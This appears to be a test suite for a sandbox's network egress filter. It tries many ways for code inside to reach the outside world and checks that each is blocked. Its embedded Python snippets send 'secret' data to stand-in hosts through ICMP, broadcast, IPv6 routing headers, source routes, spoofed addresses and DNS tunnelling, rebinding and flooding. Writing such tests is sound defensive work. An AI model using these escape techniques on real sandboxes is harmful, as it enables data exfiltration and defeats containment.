// Ways out of a sandbox over the network, each tried in it and, to know that it would be one, without it. Whatever
// reaches the world is seen there.
import '../../support/own-host.ts';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { parseIp } from '../../../src/addr/index.ts';
import { Lab, sandbox, type Denial, type Sandbox } from '../../../src/library/index.ts';
import { OPEN_MAX, OpenAddresses } from '../../../src/sandbox/open-addresses.ts';
import { parseEgress } from '../../../src/topology/index.ts';
import { inside, insideEach, outside, SHORT } from '../../support/attempt.ts';
import { sh } from '../../support/command.ts';
import { eventually } from '../../support/eventually.ts';
import { assertUnchanged, snapshotHost, type HostSnapshot } from '../../support/host.ts';
import { skipWithoutRoot } from '../../support/privilege.ts';
import { HOST, NAME_SERVER, OTHER, World, WORLD } from '../../support/sandbox-world.ts';

suite('out of a sandbox over the network', { skip: skipWithoutRoot }, () => {
  const world = new World();
  const denials: Denial[] = [];
  let host: HostSnapshot;
  let box: Sandbox;

  before(async () => {
    // What a process opens once, and keeps.
    await using first = await sandbox();
    await first.exec('true');
    await first.close();
    host = snapshotHost();
    await world.open();
    box = await sandbox({
      allow: [
        'a.example:7000',
        'short.example:7000',
        '*.wild.example:443',
        'alias.example:443',
        'rebind.example',
        'mapped.example',
        'private.example',
        'own.example',
        'mixed.example:443',
        'big.example',
        `${WORLD[4]}:80`,
        `[${WORLD[6]}]:80`,
        `${WORLD[4]}:7000/udp`,
        `${WORLD[4]}/icmp`,
      ],
      resolvers: [NAME_SERVER],
      onDenied: (denial) => denials.push(denial),
    });
  });
  after(async () => {
    await box.close();
    await world.close();
    await assertUnchanged(host);
  });

  /** The attempt works outside, and inside nothing of it reaches the world. */
  const closed = async (code: string, results: RegExp = /^(timeout|E[A-Z]+)$/): Promise<void> => {
    assert.equal(await outside(code), 'escaped', 'the attempt does not work without a sandbox either');
    const seen = await world.during(async () => assert.match(await inside(box, code, SHORT), results));
    assert.equal(seen, '');
  };

  test('what is allowed works: by name, by address, in both families, and ping', async () => {
    for (const code of [
      `assert tcp(gethostbyname('a.example'), 7000) == b'echo x'`,
      `assert tcp(getaddrinfo('a.example', 7000, AF_INET6)[0][4][0], 7000) == b'echo x'`,
      `assert tcp(gethostbyname('www.wild.example'), 443)`,
      `assert tcp('${WORLD[4]}', 80) and tcp('${WORLD[6]}', 80)`,
      `assert udp('${WORLD[4]}', 7000) == b'echo x'`,
      `s = socket(AF_INET, SOCK_DGRAM, 1); s.settimeout(patience); s.sendto(struct.pack('>BBHHH', 8, 0, 0, 0, 1), ('${WORLD[4]}', 0)); s.recv(100)`,
      `assert len(set(getaddrinfo('big.example', 1, AF_INET, SOCK_STREAM))) == 60`,
    ])
      assert.equal(await inside(box, code), 'escaped', code);
  });

  test('nft sees the rules, and what is open for how long', () => {
    const text = sh(`ip netns exec ${box.name} nft list table inet netwright-egress`);
    assert.match(text, /chain leaving \{\s+type filter hook forward priority/);
    assert.match(text, /ct state != new goto refuse/);
    assert.match(text, /ip daddr @open-box-tcp-7000-v4 tcp dport 7000 accept/);
    assert.match(text, /goto refuse comment "everything else"\s+\}/);
    assert.match(text, new RegExp(`${WORLD[4]} timeout 1m2s expires`));
  });

  test('a TCP connection to an address that is not allowed is refused at once, and told of', async () => {
    // It goes on until it is told of, as most do: nobody can tell of one that has ended who it was.
    const folder = mkdtempSync(join(tmpdir(), 'netwright-told-'));
    const told = join(folder, 'told');
    const code = `
try: assert tcp('${OTHER[4]}', 7000) == b'echo x'
except OSError:
    while os.path.exists('${folder}') and not os.path.exists('${told}'): time.sleep(0.01)
    raise`;
    try {
      const ending = closed(code, /^ECONNREFUSED$/);
      const denial = await eventually(
        () => denials.findLast((one) => one.kind === 'packet'),
        (found) => found !== undefined,
        'it is not told of',
      );
      writeFileSync(told, '');
      await ending;
      assertHas(denial, { protocol: 'tcp', address: OTHER[4], port: 7000, process: 'python3' });
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('a port that is not allowed, of an address that is', () => closed(`tcp('${WORLD[4]}', 853)`, /^ECONNREFUSED$/));
  test('UDP to an address that is not allowed', () => closed(`udp('${OTHER[4]}', 7000)`));
  test('IPv6 to an address that is not allowed', () => closed(`tcp('${OTHER[6]}', 80)`, /^ECONNREFUSED$/));
  test('IPv4 written as IPv6', () =>
    closed(`assert tcp('::ffff:${OTHER[4]}', 7000, family=AF_INET6)`, /^ECONNREFUSED$/));
  test('from a port that answers come from', () =>
    closed(`udp('${OTHER[4]}', 7000, source=('', 53)); udp('${OTHER[4]}', 7000, source=('', 443))`));

  test('ping to an address that is not allowed, data in it', () =>
    closed(
      `s = socket(AF_INET, SOCK_DGRAM, 1); s.settimeout(patience); s.connect(('${OTHER[4]}', 0)); s.send(struct.pack('>BBHHH', 8, 0, 0, 0, 1) + b'secret'); s.recv(100)`,
    ));

  test('a datagram in fragments', () => closed(`udp('${OTHER[4]}', 7000, b'x' * 4000)`));

  test('by way of the router: a routing header of IPv6, and a source route of IPv4', async () => {
    const [router] = sh(`ip -n ${box.name} -6 -o address show dev box scope global`).match(/[0-9a-f:]+(?=\/64)/) ?? [];
    const sourceRoute = `
s = socket(AF_INET, SOCK_DGRAM); s.settimeout(0.3)
s.setsockopt(SOL_IP, 4, bytes([1, 131, 7, 4]) + inet_aton('198.19.255.253'))
s.sendto(b'secret', ('${OTHER[4]}', 7000)); s.recv(9)`;
    const codes = [segments(router!), segments(WORLD[6]), sourceRoute];
    const seen = await world.during(async () => {
      for (const result of await insideEach(box, codes)) assert.match(result, /^(timeout|E[A-Z]+)$/);
      // Whoever had the privilege that newer kernels ask for would meet the rules.
      for (const code of codes) await outside(code, ['ip', 'netns', 'exec', `${box.name}.box`], SHORT);
    });
    assert.equal(seen, '');
    // Without a sandbox the packets leave.
    assert.match(await world.during(() => outside(segments(WORLD[6]))), /type=4/);
    const route = sourceRoute.replace('198.19.255.253', WORLD[4]);
    assert.match(await world.during(() => outside(route)), new RegExp(`> ${WORLD[4]}`));
  });

  test('data in the first packet of a connection', async () => {
    const code = `s = socket(); s.settimeout(0.3); s.sendto(b'secret', 0x20000000, ('${OTHER[4]}', 7000)); assert s.recv(9)`;
    const seen = await world.during(async () => assert.match(await inside(box, code), /^E[A-Z]+$/));
    assert.equal(seen, '');
  });

  test('a source address that is not its own', async () => {
    const code = `udp('${WORLD[4]}', 7000, source=('192.0.2.99', 0), options=[(SOL_IP, 19, 1)])`;
    assert.equal(await inside(box, code), 'EPERM');
    const sent = await world.during(() => outside(code, [], SHORT));
    assert.match(sent, /192\.0\.2\.99/, 'without a sandbox the packet leaves');
    // Whoever had the privilege would meet the rule.
    const namespace = `${box.name}.box`;
    const seen = await world.during(() => outside(code, ['ip', 'netns', 'exec', namespace], SHORT));
    assert.equal(seen, '');
    assert.equal(await outside(code.replace('192.0.2.99', ''), ['ip', 'netns', 'exec', namespace]), 'escaped');
  });

  test('broadcast and multicast', async () => {
    const seen = await world.during(async () => {
      const everybody = ['255.255.255.255', '203.0.113.255', '224.0.0.251', '239.1.2.3', 'ff02::1', 'ff0e::1'];
      await insideEach(box, everybody.map(broadcastTo));
    });
    assert.equal(seen, '');
    assert.equal(await outside(broadcastTo('203.0.113.255')), 'escaped');
  });

  test('another name server, over UDP and TCP', async () => {
    for (const server of [WORLD[4], OTHER[4], NAME_SERVER]) {
      await closed(`assert ask('a.example', server='${server}')[1] > 0`);
      await closed(`assert tcp('${server}', 53, struct.pack('>H', 27) + query('a.example'))`, /^ECONNREFUSED$/);
    }
  });

  test('DNS over TLS and over HTTPS', async () => {
    await closed(`tcp('${OTHER[4]}', 853)`, /^ECONNREFUSED$/);
    await closed(`tcp('${OTHER[4]}', 443)`, /^ECONNREFUSED$/);
  });

  test('a name that is not allowed reaches no name server, and is told of', async () => {
    const before = world.asked.length;
    const names = ['other.example', 'secret.a.example', 'wild.example', 'example', 'a.example.evil', 'xa.example'];
    const results = await insideEach(
      box,
      names.map((name) => `assert ask('${name}')[0] == 3`),
    );
    assert.deepEqual(
      results,
      names.map(() => 'escaped'),
      'each is said not to exist',
    );
    assert.deepEqual(world.asked.slice(before), []);
    assertHas(
      denials.findLast(({ kind }) => kind === 'name'),
      {
        name: 'xa.example',
        type: 'A',
        reason: 'not allowed',
        process: 'python3',
      },
    );
    assert.equal(await inside(box, `assert ask('a.example')[0] == 0`), 'escaped', 'and one that is allowed');
  });

  test('records other than addresses', async () => {
    const before = world.asked.length;
    const kinds = [16, 10, 5, 2, 33, 255, 65, 999];
    const results = await insideEach(
      box,
      kinds.map((kind) => `assert ask('a.example', ${kind})[:2] == (0, 0)`),
    );
    assert.deepEqual(
      results,
      kinds.map(() => 'escaped'),
      'each is said to have none',
    );
    assert.deepEqual(world.asked.slice(before), []);
    assert.equal(await outside(`assert b'secret' in ask('a.example', 16, '${NAME_SERVER}')[2]`), 'escaped');
  });

  test('data in names below a wildcard: odd octets, and one name after another', async () => {
    // What is told of it leaves no room for others.
    const told: Denial[] = [];
    await using other = await sandbox({
      allow: ['*.wild.example:443'],
      resolvers: [NAME_SERVER],
      onDenied: (denial) => told.push(denial),
    });
    const before = world.asked.length;
    const code = `
for i in range(300): ask('data%d.wild.example' % i)
r = udp('127.0.0.1', 53, query('x.wild.example').replace(b'\\x01x', b'\\x01\\xff'))
assert r[3] & 15 == 3`;
    assert.equal(await inside(other, code), 'escaped');
    const passed = world.asked.length - before;
    assert.ok(passed >= 90 && passed <= 130, `${passed} of 300 names were passed on`);
    assert.ok(told.some((one) => one.kind === 'name' && one.reason === 'too many names'));
  });

  test('a flood of questions passes none on, and the name server answers afterwards', async () => {
    await using other = await sandbox({ allow: ['a.example:7000'], resolvers: [NAME_SERVER], onDenied: () => {} });
    const before = world.asked.length;
    const code = `
s = socket(AF_INET, SOCK_DGRAM); s.connect(('127.0.0.1', 53))
for i in range(10000): s.send(query('n%d.evil.example' % i))
for i in range(50):
    try: assert ask('a.example')[0] == 0; break
    except TimeoutError: pass
else: assert False, 'it is silent'`;
    assert.equal(await inside(other, code, SHORT), 'escaped');
    assert.deepEqual([...new Set(world.asked.slice(before))], ['a.example 1']);
  });

  test('how many addresses of names are open at a time has a limit', () => {
    using openings = new OpenAddresses('box');
    const [rule] = [parseEgress('a.example:1')];
    const addresses = Array.from({ length: OPEN_MAX + 1 }, (_, i) => parseIp(`198.51.${100 + (i >> 8)}.${i & 255}`));
    assert.throws(() => openings.open([rule], addresses, 1), { code: 'ERR_TOO_MANY_OPEN' });
  });

  test('what is in a question besides the question, and in an answer besides the answer', async () => {
    const code = `
r = udp('127.0.0.1', 53, query('a.example')[:11] + b'\\x01' + query('A.exaMPLE')[12:] + b'\\x00\\x00\\x29\\x04\\xd0\\x00\\x00\\x00\\x00\\x00\\x0a\\xff\\xfe\\x00\\x06secret')
assert r[3] & 15 == 0 and b'unasked' not in r and b'secret' not in r`;
    assert.equal(await inside(box, code), 'escaped');
    assert.equal(world.asked.at(-1), 'a.example 1');
  });

  test('a name that leads to the host, to a private network or to itself', async () => {
    for (const [name, kind] of [
      ['rebind', 1],
      ['private', 1],
      ['own', 1],
      ['mapped', 28],
    ] as const) {
      assert.equal(
        await inside(box, `code, count, _ = ask('${name}.example', ${kind}); assert (code, count) == (0, 0)`),
        'escaped',
        name,
      );
      assertHas(denials.at(-1), {
        kind: 'name',
        name: `${name}.example`,
        reason: 'private address',
      });
    }
    assert.equal(await inside(box, `assert gethostbyname_ex('mixed.example')[2] == ['${WORLD[4]}']`), 'escaped');
    assert.equal(await outside(`assert ask('rebind.example', 1, '${NAME_SERVER}')[1] > 1`), 'escaped');
    // Allowed as an address, too, it is answered.
    await using other = await sandbox({ allow: ['private.example', '10.0.0.0/8:1'], resolvers: [NAME_SERVER] });
    assert.equal(await inside(other, `assert gethostbyname('private.example') == '10.1.2.3'`), 'escaped');
  });

  test('an alias of a name that is not allowed opens what the allowed one is allowed, and the other stays closed', async () => {
    assert.match(await inside(box, `tcp('${OTHER[4]}', 443)`), /^ECONNREFUSED$/);
    assert.equal(
      await inside(box, `assert gethostbyname('alias.example') == '${OTHER[4]}' and tcp('${OTHER[4]}', 443)`),
      'escaped',
    );
    assert.match(await inside(box, `tcp('${OTHER[4]}', 7000)`), /^ECONNREFUSED$/);
    assert.match(await inside(box, `gethostbyname('other.example')`), /^-?\d|^E/);
  });

  test('a name whose time is over: no new connection, and the old one goes on', async () => {
    const code = `
a = gethostbyname('short.example')
s = socket(); s.settimeout(patience); s.connect((a, 7000))
time.sleep(3.3)
s.send(b'still'); assert s.recv(100) == b'echo still'
try: tcp(a, 7000)
except ConnectionRefusedError: pass
else: assert False, 'open for ever'
assert tcp(gethostbyname('short.example'), 7000)`;
    // a.example is at the same address, and would keep it open.
    await using other = await sandbox({ allow: ['short.example:7000'], resolvers: [NAME_SERVER] });
    assert.equal(await inside(other, code), 'escaped');
  });

  suite('names as this machine finds them', () => {
    const folder = mkdtempSync(join(tmpdir(), 'netwright-names-'));
    const etc = (name: string, text: string): void => writeFileSync(join(folder, name), text);
    before(() => {
      for (const name of ['hosts', 'resolv.conf']) {
        etc(name, '');
        sh(`mount --bind ${join(folder, name)} /etc/${name}`);
      }
    });
    after(() => {
      for (const name of ['hosts', 'resolv.conf']) sh(`umount /etc/${name}`);
      rmSync(folder, { recursive: true });
    });

    test('its name servers, when they change, too; its search list, and how many dots make a name whole', async () => {
      etc('resolv.conf', 'nameserver 203.0.113.99\nsearch example\noptions ndots:2 timeout:7\n');
      const told: Denial[] = [];
      await using other = await sandbox({
        allow: ['a:7000', 'www.wild:443', 'a.b.c:1'],
        onDenied: (denial) => told.push(denial),
      });
      etc('resolv.conf', `nameserver ${NAME_SERVER}\nsearch example\noptions ndots:2 timeout:7\n`);
      const code = `
assert tcp(gethostbyname('a'), 7000) and tcp(gethostbyname('www.wild'), 443) and tcp(gethostbyname('a.example'), 7000)
assert open('/etc/resolv.conf').read() == 'nameserver 127.0.0.1\\nsearch example\\noptions ndots:2 timeout:7\\n'
assert ask('a.b.c.example')[0] == 3
try: gethostbyname('x.y.z'); assert False, 'x'
except gaierror: pass`;
      assert.equal(await inside(other, code), 'escaped');
      // Nor is it told of with each domain.
      assert.deepEqual(
        told.flatMap((one) => (one.kind === 'name' ? [one.name] : [])),
        ['x.y.z'],
      );
    });

    test('whichever file takes the place of its resolv.conf, the command keeps its own', async () => {
      const copy = join(folder, 'etc');
      sh(`cp -a /etc ${copy}`);
      writeFileSync(join(copy, 'resolv.conf'), 'nameserver 203.0.113.99\n');
      sh(`mount --bind ${copy} /etc`);
      try {
        await using other = await sandbox({ allow: ['a.example:7000'] });
        const asking = inside(
          other,
          `
while not os.path.exists('${folder}/changed'): time.sleep(0.05)
deadline = time.time() + patience
while open('/etc/resolv.conf').read() != 'nameserver 127.0.0.1\\n': assert time.time() < deadline, open('/etc/resolv.conf').read()
assert tcp(gethostbyname('a.example'), 7000)`,
        );
        writeFileSync(join(copy, 'new'), `nameserver ${NAME_SERVER}\n`);
        renameSync(join(copy, 'new'), join(copy, 'resolv.conf'));
        etc('changed', '');
        assert.equal(await asking, 'escaped');
      } finally {
        sh('umount /etc');
        rmSync(copy, { recursive: true });
      }
    });

    test('its hosts file, for names that are allowed, whatever address they have there', async () => {
      // Whoever asks completes a name first, which the machine does not with one of its hosts file.
      etc('resolv.conf', `nameserver ${NAME_SERVER}\nsearch example\n`);
      etc('hosts', `${HOST[4]} own.example Here\n${OTHER[4]} a.example x.hosted.example\n127.0.0.1 loop.example\n`);
      const server = createServer((socket) => socket.on('error', () => {}).pipe(socket)).listen(9000, HOST[4]);
      await once(server, 'listening');
      const asked = world.asked.length;
      await using other = await sandbox({
        allow: ['own.example:9000', 'here:9000', 'a.example:7000', '*.hosted.example:80', 'loop.example'],
      });
      const code = `
assert gethostbyname('a.example') == gethostbyname('x.hosted.example') == '${OTHER[4]}'
assert tcp(gethostbyname('own.example'), 9000) == tcp(gethostbyname('here'), 9000) == b'x'
assert tcp('${OTHER[4]}', 7000) and tcp('${OTHER[4]}', 80) and gethostbyname('loop.example') == '127.0.0.1'
tcp('${OTHER[4]}', 443)`;
      assert.equal(await inside(other, code), 'ECONNREFUSED');
      assert.deepEqual(world.asked.slice(asked), []);
      server.close();
    });

    test('`localhost`, where it has no hosts file', async () => {
      etc('resolv.conf', '');
      sh('umount /etc/hosts');
      sh(`cp -a /etc ${join(folder, 'etc')}`);
      sh(`mount --bind ${join(folder, 'etc')} /etc`);
      try {
        for (const command of ['rm -f /etc/hosts', 'ln -s nowhere /etc/hosts']) {
          sh(command);
          await using other = await sandbox({ forwardHost: [1] });
          assert.equal(
            await inside(other, `assert gethostbyname('localhost') == '127.0.0.1'; tcp('localhost', 1)`),
            'ECONNRESET',
          );
        }
      } finally {
        sh('umount /etc');
        sh(`mount --bind ${join(folder, 'hosts')} /etc/hosts`);
      }
    });

    test('a name server that takes its time, and one that says nothing', async () => {
      const server = spawn(process.execPath, ['-e', SLOW], { stdio: ['ignore', 'pipe', 'inherit'] });
      await once(server.stdout, 'data');
      try {
        await using other = await sandbox({
          allow: ['slow.example'],
          resolvers: ['127.0.0.1:5399', '203.0.113.99'],
        });
        const code = `assert gethostbyname('slow.example') == '203.0.113.77'`;
        await using behind = await sandbox({
          allow: ['slow.example'],
          resolvers: ['203.0.113.99', '127.0.0.1:5399'],
        });
        assert.deepEqual(await Promise.all([inside(other, code), inside(behind, code)]), ['escaped', 'escaped']);
      } finally {
        server.kill();
        await once(server, 'close');
      }
    });
  });

  test('a redirect to an address that is not allowed', async () => {
    const redirected = fetchOf(`http://${WORLD[4]}/redirect`);
    assert.equal(await outside(redirected), 'escaped');
    const seen = await world.during(async () => assert.equal(await inside(box, redirected), 'ECONNREFUSED'));
    assert.ok(seen.includes(`> ${WORLD[4]}.80:`) && !seen.includes(OTHER[4]), seen);
    assert.equal(await inside(box, fetchOf(`http://${WORLD[4]}/`)), 'escaped');
  });

  suite('services of the host and of other labs', () => {
    let server: Server;
    let lab: Lab;
    before(async () => {
      server = createServer((socket) => socket.on('error', () => {}).pipe(socket)).listen(9000, '::');
      await once(server, 'listening');
      lab = await Lab.up({ name: 'neighbour', nodes: { a: { internet: true, firewall: { input: 'allow' } } } });
    });
    after(async () => {
      await lab.down();
      server.close();
    });

    test("the host's own addresses, its end of the uplink and the router", async () => {
      const addresses = [HOST[4], HOST[6], '100.64.77.2', ...uplinkAddresses(box.name)];
      for (const address of addresses) await closed(`assert tcp('${address}', 9000) == b'x'`, /^ECONNREFUSED$/);
      const router = await serve(box.name);
      for (const address of ['198.19.255.253', ...uplinkAddresses(box.name, true)])
        assert.match(await inside(box, `tcp('${address}', 9000)`), /^ECONNREFUSED$/, address);
      await router();
      await using other = await sandbox({ allow: [`${HOST[4]}:9000`] });
      assert.equal(await inside(other, `assert tcp('${HOST[4]}', 9000) == b'x'`), 'escaped');
    });

    test('the link-local address of the router', async () => {
      const router = await serve(box.name);
      const address = 'fe80::99';
      sh(`ip -n ${box.name} address add ${address}/64 dev box nodad`);
      const code = `
s = socket(AF_INET6, SOCK_STREAM); s.settimeout(patience)
s.connect(('${address}', 9000, 0, if_nametoindex('eth0')))`;
      assert.match(await inside(box, code), /^ECONNREFUSED$/);
      await router();
    });

    test("another lab's node", async () => {
      const address = lab.node('a').address!;
      const server = await serve('neighbour.a');
      await closed(`assert tcp('${address}', 9000) == b'x'`, /^ECONNREFUSED$/);
      await server();
    });

    test('its loopback is not the host’s, but for ports that are forwarded', async () => {
      const loopback = createServer((socket) => socket.on('error', () => {}).pipe(socket)).listen(9100, '127.0.0.1');
      await once(loopback, 'listening');
      await closed(`assert tcp('127.0.0.1', 9100) == b'x'`, /^ECONNREFUSED$/);
      await using other = await sandbox({ forwardHost: [9100, '9200:9100', 9300] });
      assert.equal(
        await inside(other, `assert tcp('127.0.0.1', 9100) == b'x' and tcp('localhost', 9200) == b'x'`),
        'escaped',
      );
      assert.match(await inside(other, `assert tcp('127.0.0.1', 9300)`), /^(ECONNRESET|no)/);
      loopback.close();
    });
  });

  test('nothing comes in', async () => {
    const listening = box.exec('/usr/bin/python3', [
      '-c',
      `from socket import *; s = socket(); s.bind(('', 8000)); s.listen(); s.settimeout(1); s.accept()`,
    ]);
    for (const address of ['198.19.255.254', ...uplinkAddresses(box.name, true)]) {
      sh(`ip -n world route replace ${address}/32 via ${HOST[4]}`);
      assert.throws(() => sh(`ip netns exec world curl -s --max-time 0.3 http://${address}:8000/`));
    }
    assert.match((await listening).stderr, /timed out/);
  });
});

/** A name server that answers every question after 3 seconds. */
const SLOW = `
const socket = require('node:dgram').createSocket('udp4');
socket.on('message', (query, from) => setTimeout(() => {
  const end = query.indexOf(0, 12) + 5;
  const isA = query.readUInt16BE(end - 4) === 1;
  const head = Buffer.from(query.subarray(0, 12));
  head.writeUInt16BE(0x8180, 2); head.writeUInt16BE(isA ? 1 : 0, 6); head.writeUInt32BE(0, 8);
  const answer = isA ? Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 203, 0, 113, 77]) : Buffer.alloc(0);
  socket.send(Buffer.concat([head, query.subarray(12, end), answer]), from.port, from.address);
}, 3000)).bind(5399, '127.0.0.1', () => console.log('ready'));
`;

/** Sends a datagram to everybody. */
const broadcastTo = (to: string): string => `
s = socket(AF_INET6 if ':' in '${to}' else AF_INET, SOCK_DGRAM); s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1)
s.sendto(b'secret', ('${to}', 7000${to.includes(':') ? ", 0, if_nametoindex([n for _, n in if_nameindex() if n != 'lo'][0])" : ''}))`;

/** Sends a datagram to an address, by way of another: a segment routing header (RFC 8754) has both. */
const segments = (first: string): string => `
s = socket(AF_INET6, SOCK_DGRAM); s.settimeout(0.3)
s.setsockopt(41, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + inet_pton(AF_INET6, '${OTHER[6]}') + inet_pton(AF_INET6, '${first}'))
s.sendto(b'secret', ('${OTHER[6]}', 80)); s.recv(9)`;

/** Fetches a page, wherever it leads. */
const fetchOf = (url: string): string => `
import urllib.request, urllib.error
try: assert urllib.request.urlopen('${url}', timeout=patience).read() == b'hello'
except urllib.error.URLError as e: raise e.reason`;

/** Echoes on port 9000 of every address of a namespace. @returns ends it */
async function serve(namespace: string): Promise<() => Promise<void>> {
  const code =
    "require('net').createServer((s) => s.on('error', () => {}).pipe(s)).listen(9000, '::', () => console.log(1))";
  const program = spawn('ip', ['netns', 'exec', namespace, process.execPath, '-e', code], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await once(program.stdout, 'data');
  return async () => {
    const ended = once(program, 'close');
    program.kill();
    await ended;
  };
}

function assertHas(actual: object | undefined, expected: object): void {
  const found = Object.fromEntries(Object.keys(expected).map((key) => [key, (actual as never)?.[key]]));
  assert.deepEqual(found, expected);
}

/** The IPv4 addresses of a sandbox's uplink: the host's end, or the router's. */
function uplinkAddresses(lab: string, router = false): string[] {
  const text = router ? sh(`ip -n ${lab} -4 -o address show dev uplink`) : sh(`ip -4 -o address show dev nw-${lab}`);
  return [...text.matchAll(/inet (\S+)\//g)].map(([, address]) => address!);
}
